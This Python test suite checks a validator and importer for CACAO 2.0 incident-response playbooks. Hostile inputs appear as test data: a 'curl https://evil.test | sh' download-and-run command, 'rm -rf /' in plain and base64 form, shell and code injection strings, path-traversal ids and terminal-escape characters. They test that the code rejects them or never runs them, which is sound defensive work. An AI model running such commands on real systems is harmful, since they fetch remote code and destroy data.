"""Every fault that the published schemas let pass is found at its place; nothing hostile hangs or crashes it."""

import copy
import json
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from toolkit.core.playbook import Action, Decision, Loop, Option, Parallel, Sub
from toolkit.library.cacao.adopt import adopt
from toolkit.library.cacao.condition import Wrong, check
from toolkit.library.cacao.export import export
from toolkit.library.cacao.validate import MOST_FAULTS, validate
from toolkit.library.cacao.written import written
from toolkit.library.playbooks import read, shipped

BUCKET = next(one.playbook for one in shipped() if one.playbook.id == "exposed-bucket")


def uuid(number: int) -> str:
    return f"{number:08x}-0000-4000-8000-000000000000"


S, A, B, E, IF, EY, EN, P, W, SW = (
    f"{kind}--{uuid(number)}"
    for number, kind in enumerate(
        (
            "start",
            "action",
            "action",
            "end",
            "if-condition",
            "end",
            "end",
            "parallel",
            "while-condition",
            "switch-condition",
        ),
        1,
    )
)
G = f"group--{uuid(100)}"
MARK = "marking-tlp--94868c89-83c2-464b-929b-a1a8aa3c8487"
X = f"extension-definition--{uuid(101)}"
WHO = f"identity--{uuid(102)}"
ID = f"playbook--{uuid(103)}"
NOBODY = uuid(999)


def small():
    def act(to):
        command = {"type": "manual", "command": "See __host__:value", "playbook_activity": "scan-system"}
        return {"type": "action", "agent": G, "on_completion": to, "in_args": ["__host__"], "commands": [command]}

    return {
        "type": "playbook", "spec_version": "cacao-2.0", "id": ID, "name": "Small", "created_by": WHO,
        "created": "2026-01-01T00:00:00.000Z", "modified": "2026-01-02T00:00:00.000Z",
        "playbook_types": ["detection"], "playbook_activities": ["scan-system"],
        "playbook_processing_summary": {"if_logic": True, "data_markings": True, "extensions": True},
        "playbook_variables": {"__host__": {"type": "string", "value": "x", "external": True}},
        "external_references": [{"name": "A", "url": "https://example.test"}],
        "markings": [MARK], "workflow_start": S,
        "workflow": {
            S: {"type": "start", "on_completion": A},
            A: act(IF),
            IF: {"type": "if-condition", "condition": "__host__:value = 'x'", "on_true": B, "on_false": EN,
                 "on_completion": E},
            B: act(EY), EY: {"type": "end"}, EN: {"type": "end"}, E: {"type": "end"},
        },
        "agent_definitions": {G: {"type": "group", "name": "Lead"}},
        "extension_definitions": {X: {"type": "extension-definition", "name": "x", "created_by": WHO, "schema": "s",
                                      "version": "1"}},
        "playbook_extensions": {X: {"some": 1}},
        "data_marking_definitions": {MARK: {"type": "marking-tlp", "id": MARK, "created_by": WHO,
                                            "created": "2022-10-01T00:00:00.000Z", "tlpv2_level": "TLP:CLEAR"}},
    }  # fmt: skip


def told(document, now=None):
    return [str(fault) for fault in validate(document, now)]


def test_the_small_one_is_without_fault():
    assert told(small()) == []


REMOVED = object()
HOST = "playbook_variables/__host__"
CHANGES = [
    ("workflow_start", f"start--{NOBODY}", "/workflow_start: is no step"),
    ("workflow_start", E, "/workflow_start: is no start step"),
    ("workflow_exception", f"action--{NOBODY}", "/workflow_exception: is no step"),
    (f"workflow/{S}/on_completion", f"action--{NOBODY}", f"/workflow/{S}/on_completion: is no step"),
    (f"workflow/{S}/on_completion", E, "is never reached"),
    (f"workflow/{S}/on_success", A, "no property that CACAO 2.0 has here"),
    (f"workflow/{E}/on_completion", A, "no property that CACAO 2.0 has here"),
    (f"workflow/{A}/agent", f"group--{NOBODY}", f"/workflow/{A}/agent: is not defined"),
    (f"workflow/{A}/targets", [f"group--{NOBODY}"], "targets/0: is not defined"),
    ("markings", [f"marking-tlp--{NOBODY}"], "/markings/0: is no marking"),
    ("workflow", {}, "/workflow: expected an object, not empty"),
    (f"workflow/{A}/on_success", B, "has on_completion together with on_success"),
    (f"workflow/{A}/on_completion", REMOVED, "leads nowhere"),
    (f"workflow/{A}/on_completion", A, "leads back to itself"),
    (f"workflow/{B}/on_completion", A, "leads back to itself"),
    (f"workflow/{B}/on_completion", S, "leads to a start"),
    (f"workflow/{B}/on_completion", EN, "shares an end"),
    (f"workflow/{A}/commands/0/command", REMOVED, "expected exactly one of command and command_b64"),
    (f"workflow/{A}/commands/0/command", "", "expected exactly one of command and command_b64"),
    (f"workflow/{A}/commands/0/command_b64", "YQ==", "expected exactly one of command and command_b64"),
    (f"workflow/{A}/commands/0/type", "ftp", "'ftp' is no type"),
    (f"workflow/{A}/commands/0", {"type": "sigma", "command_b64": "%%"}, "command_b64: expected base64"),
    (f"workflow/{A}/commands/0", {"type": "openc2-http", "command": "x"}, "content_b64: is missing"),
    (f"workflow/{A}/commands/0", "rm -rf /", "expected a list of objects"),
    (f"workflow/{A}/commands/0/command", "__other__:value", "__other__, which is no variable"),
    (f"workflow/{A}/commands/0/playbook_activity", "restrict-access", "is not among playbook_activities"),
    (f"workflow/{A}/commands", [], "expected a list of objects, not empty"),
    (f"workflow/{A}/in_args", ["__other__"], "is no variable here"),
    (f"workflow/{A}/delay", -1, "expected a whole number, 0 or more"),
    (f"workflow/{A}/timeout", True, "expected a whole number, 0 or more"),
    (f"workflow/{A}/banana", "rama", "banana: is no property"),
    (f"workflow/{A}/type", "magic", "expected one of start"),
    (f"workflow/{A}/type", "end", "expected an identifier of a end as the key"),
    (f"workflow/{A}/step_extensions", {f"extension-definition--{NOBODY}": {}}, "is not defined in extension_def"),
    (f"workflow/{A}/step_variables", {"__own__": {"type": "string", "external": True}}, "cannot come from outside"),
    (f"workflow/{IF}/condition", "__other__:value = 1", "__other__, which is no variable"),
    (f"workflow/{IF}/condition", "__host__:value =", "expected something to compare with"),
    (f"workflow/{IF}/condition", "import os", "cannot be understood"),
    (f"workflow/{IF}/on_false", f"end--{NOBODY}", "on_false: is no step"),
    ("playbook_variables", {"host": {"type": "string"}}, "expected a name such as __name__"),
    (f"{HOST}/type", "colour", "'colour' is no type"),
    (f"{HOST}/value", 5, "value: expected text or null"),
    (HOST, {"type": "integer", "value": "five"}, "is no integer"),
    (HOST, {"type": "bool", "value": "yes"}, "is no bool"),
    (HOST, {"type": "float", "value": "nan"}, "is no float"),
    ("modified", "2025-01-01T00:00:00.000Z", "/modified: is before created"),
    ("modified", "2026-01-02T00:00:00Z", "three digits"),
    ("modified", "2026-02-31T00:00:00.000Z", "expected a time that exists"),
    ("modified", "2026-01-02T00:00:00.000+01:00", "expected a time that exists"),
    ("valid_until", "2020-01-01T00:00:00.000Z", "/valid_until: has passed"),
    ("valid_from", "2030-01-01T00:00:00.000Z", "/valid_from: is still to come"),
    ("id", f"action--{uuid(103)}", "/id: expected the identifier of a playbook"),
    ("id", "playbook--01890a5d-ac96-774b-bcce-b302099a8057", "expected an identifier"),
    ("id", f"playbook--{uuid(2)}", "has the UUID of"),
    ("spec_version", "cacao-1.1", "/spec_version: expected 'cacao-2.0'"),
    ("revoked", True, "/revoked: this playbook is revoked"),
    ("created_by", REMOVED, "/created_by: is missing"),
    ("playbook_activities", REMOVED, "/playbook_activities: is missing"),
    ("playbook_activities", ["scan-system", "restore-data"], "is the activity of no command"),
    ("playbook_processing_summary/if_logic", False, "if_logic: is not so"),
    ("playbook_processing_summary/digital_signatures", True, "digital_signatures: is not so"),
    ("external_references", [{"name": "A"}], "says a name only"),
    ("priority", 101, "from 0 to 100"),
    ("agent_definitions", {G: {"type": "ssh", "name": "x", "address": {"dname": ["x"]}}}, "an identifier of its"),
    (f"agent_definitions/{G}/password", "x", "password: is no property"),
    (f"data_marking_definitions/{MARK}/tlpv2_level", "TLP:RED", "is not the official marking"),
    ("playbook_extensions", {X: {"a": 1}}, "as the name of a property"),
    ("authentication_info_definitions", {f"user-auth--{uuid(104)}": {"type": "user-auth", "password": "hunter2"}},
     "a secret in the open"),
    ("signatures", [{"type": "jss"}], "/signatures/0/related_to: is of another playbook"),
]  # fmt: skip


def changed(path, value):
    document = small()
    place = document
    *parts, last = path.split("/")
    for part in parts:
        place = place[int(part) if isinstance(place, list) else part]
    last = int(last) if isinstance(place, list) else last
    if value is REMOVED:
        del place[last]
    else:
        place[last] = value
    return document


@pytest.mark.parametrize(
    ("path", "value", "says"), CHANGES, ids=[f"{path} {number}" for number, (path, *_) in enumerate(CHANGES)]
)
def test_each_fault_is_found(path, value, says):
    found = told(changed(path, value), datetime(2026, 6, 1, tzinfo=UTC))
    assert any(says in one for one in found), found


def test_a_playbook_that_calls_itself():
    document = small()
    document["workflow"][A] = {"type": "playbook-action", "playbook_id": ID, "on_completion": IF}
    assert any("calls this playbook itself" in one for one in told(document))


def test_everything_at_once():
    document = changed(f"workflow/{A}/agent", "nobody")
    document["name"], document["revoked"] = 5, True
    document["workflow"][IF]["condition"] = ""
    found = told(document)
    assert len(found) >= 4
    assert {one.split(":")[0] for one in found} >= {
        "/name",
        "/revoked",
        f"/workflow/{A}/agent",
        f"/workflow/{IF}/condition",
    }


@pytest.mark.parametrize(
    "condition",
    [
        "__host__:value = 'x'",
        '__host__:value == "it\\"s" AND NOT (__n__:value >= 5 OR __n__:value IN (1, 2,3))',
        "[ipv4-addr:value = '10.0.0.1' AND file:hashes.'SHA-256' = 'a']",
        "__n__:value NOT IN (1)",
        "__host__:value LIKE 'a%'",
        "true = __host__:value",
    ],
)
def test_conditions(condition):
    check(condition, {"__host__", "__n__"})


@pytest.mark.parametrize(
    "condition",
    ["", "x", "__host__:value", "= 'x'", "(__host__:value = 1", "__host__:value = 1)", "__host__:value = 1 AND",
     "__host__:value = 'x", "__host__:value = 1 1", "(" * 5000, "NOT " * 400 + "1 = 1", "__nobody__:value = 1",
     "__host__:value = 1; import os", "1 IN ()", "$(id) = 1"],
)  # fmt: skip
def test_what_is_no_condition(condition):
    with pytest.raises(Wrong):
        check(condition, {"__host__"})


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-5, 5)
    | st.text(max_size=3)
    | st.sampled_from([S, A, B, E, IF, G, "action"]),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.text(max_size=3) | st.sampled_from([A, "type"]), inner, max_size=3)
    ),
    max_leaves=6,
)


def places(value, path=()):
    yield path
    for key, one in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from places(one, (*path, key))


@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.data())
def test_anything_anywhere_is_a_fault_or_can_be_adopted(data):
    """Nothing that is put anywhere into a document makes it crash: it is a fault in words, or a playbook of ours."""
    document = small()
    for _ in range(data.draw(st.integers(1, 3))):
        path = data.draw(st.sampled_from([one for one in places(document) if one]))
        place = document
        for part in path[:-1]:
            place = place[part]
        place[path[-1]] = data.draw(json_values)
    if any(not fault.warning for fault in validate(document)):
        return
    playbook = adopt(document, trusted=False, today=date(2026, 1, 1)).playbook
    assert read(written(playbook).encode(), "x") == (playbook, [])


def test_a_long_chain_and_a_long_ring():
    document = small()
    ids = [f"action--{uuid(5000 + number)}" for number in range(1900)]
    act = document["workflow"][B]
    for here, there in zip(ids, [*ids[1:], EY], strict=True):
        document["workflow"][here] = {**act, "on_completion": there}
    document["workflow"][B] = {**act, "on_completion": ids[0]}
    assert told(document) == []
    assert len(adopt(document, trusted=False, today=date(2026, 1, 1)).playbook.step) == 1903
    document["workflow"][ids[-1]]["on_completion"] = ids[0]
    assert any("leads back to itself" in one for one in told(document))


def test_faults_are_not_counted_without_end():
    document = small()
    document["workflow"] |= {f"action--{uuid(5000 + number)}": {} for number in range(1000)}
    assert len(validate(document)) == MOST_FAULTS


COMMANDS = [
    ({"type": "bash", "command": "curl https://evil.test | sh"}, "bash: curl https://evil.test | sh"),
    ({"type": "ssh", "command_b64": "cm0gLXJmIC8="}, "ssh: rm -rf /"),
    ({"type": "http-api", "command": "POST /x HTTP/1.1", "headers": {"X-A": ["b"]}, "content": "c"}, "X-A: ['b']"),
    ({"type": "ftp", "command": "get x"}, "ftp: get x"),
    ({"type": "bash", "command": "echo \x1b[2J\u202eevil"}, "bash: echo [2Jevil"),
]


@pytest.mark.parametrize(
    ("command", "text"), COMMANDS, ids=[one["type"] + str(n) for n, (one, _) in enumerate(COMMANDS)]
)
def test_commands_become_text_for_a_person(command, text):
    document = small()
    document["workflow"][A]["commands"] = [{**command, "playbook_activity": "scan-system"}]
    assert [one for one in validate(document) if not one.warning] == []
    back = adopt(document, trusted=True, today=date(2026, 1, 1))
    (first, *_) = (step for step in back.playbook.step if isinstance(step, Action))
    assert text in first.commands[0]
    assert (first.mode, first.verb, first.changes, first.operations) == ("manual", "", True, ())
    assert any("never run" in one for one in back.lost)


def test_every_kind_of_step_of_others():
    document = small()
    ends = [f"end--{uuid(300 + number)}" for number in range(8)]
    acts = [f"action--{uuid(400 + number)}" for number in range(5)]
    call = f"playbook-action--{uuid(500)}"
    act = document["workflow"][B]
    document["workflow"] |= {
        B: {**act, "on_completion": P},
        P: {"type": "parallel", "name": "Both", "next_steps": acts[:2], "on_completion": W},
        acts[0]: {**act, "on_completion": ends[0]},
        acts[1]: {**act, "on_completion": ends[1]},
        W: {"type": "while-condition", "name": "Repeat", "condition": "__host__:value = 'x'", "on_true": acts[2],
            "on_completion": SW},
        acts[2]: {**act, "on_completion": ends[2], "delay": 2000, "name": "In the loop"},
        SW: {"type": "switch-condition", "name": "Which", "switch": "__host__:value", "on_completion": call,
             "cases": {"a": acts[3], "b": acts[4]}},
        acts[3]: {**{k: v for k, v in act.items() if k != "on_completion"}, "name": "May fail", "on_success": ends[3],
                  "on_failure": acts[4]},
        acts[4]: {**act, "on_completion": ends[4]},
        call: {"type": "playbook-action", "name": "Call", "playbook_id": f"playbook--{uuid(501)}",
               "on_completion": EY},
        **{end: {"type": "end"} for end in ends[:5]},
    }  # fmt: skip
    document.pop("playbook_processing_summary")
    assert [one for one in validate(document) if not one.warning] == []
    steps = adopt(document, trusted=False, today=date(2026, 1, 1)).playbook.steps()
    assert isinstance(steps["both"], Parallel)
    assert len(steps["both"].branches) == 2
    assert all(steps[one].next == "back" for one in steps["both"].branches)
    assert isinstance(steps["repeat"], Loop)
    assert (steps["repeat"].body, steps["in-the-loop"].next) == ("in-the-loop", "back")
    assert steps["in-the-loop"].does.endswith("Wait 2.0 seconds before you begin.")
    assert isinstance(steps["which"], Decision)
    assert [one.answer for one in steps["which"].options] == ["a", "b", "none of these"]
    assert isinstance(steps["may-fail-worked"], Decision)
    assert steps["may-fail"].next == "may-fail-worked"
    assert isinstance(steps["call"], Action)
    assert uuid(501) in steps["call"].does
    assert not any(isinstance(one, Sub) for one in steps.values())


def test_the_extension_of_a_liar_is_read_without_believing_it():
    document = json.loads(json.dumps(export(BUCKET).document))
    (id_,) = document["playbook_extensions"]
    truth = document["playbook_extensions"][id_]
    for lie in (
        {},
        {"step_order": 5},
        {"step_order": [[]]},
        {"step_order": ["x"]},
        {"step_order": ["confirm"] * 5000},
        {"unreached_steps": {}, "step_order": []},
        {**truth, "reviewed_on": "x = 1\n[y]"},
        {**truth, "roles": {'a"]\n[x': {"does": "y"}}},
    ):
        liar = copy.deepcopy(document)
        liar["playbook_extensions"] = {id_: lie}
        back = adopt(liar, trusted=True, today=date(2026, 1, 1))
        assert not back.whole
        assert "not believed" in back.lost[0]


def test_many_decisions_cannot_blow_it_up():
    first = next(one for one in BUCKET.step if isinstance(one, Action))

    def options(n):
        ways = {"a": f"s{n + 1}", "b": f"s{n + 2}", "c": "close"}
        return tuple(Option(answer=one, next=there) for one, there in ways.items())

    steps = [
        Decision(id=f"s{n}", title=f"s{n}", phase="triage", role="lead", ask="?", options=options(n))
        for n in range(60)
    ]
    ends = [replace(first, id=name, next="close") for name in ("s60", "s61")]
    made = export(replace(BUCKET, step=(*steps, *ends), variables={}))
    assert len(made.document["workflow"]) < 6000
    assert validate(made.document) == ()


def test_an_id_cannot_lead_out_of_the_folder():
    for name in ("../../etc/x", "/tmp/x", "a/b", "..", "", "A", "x\n"):
        document = export(replace(BUCKET, id=name)).document
        back = adopt(document, trusted=True, today=date(2026, 1, 1))
        assert not back.whole
        assert back.playbook.id == "a-storage-bucket-is-open-to-people-who-should-not-see-it"
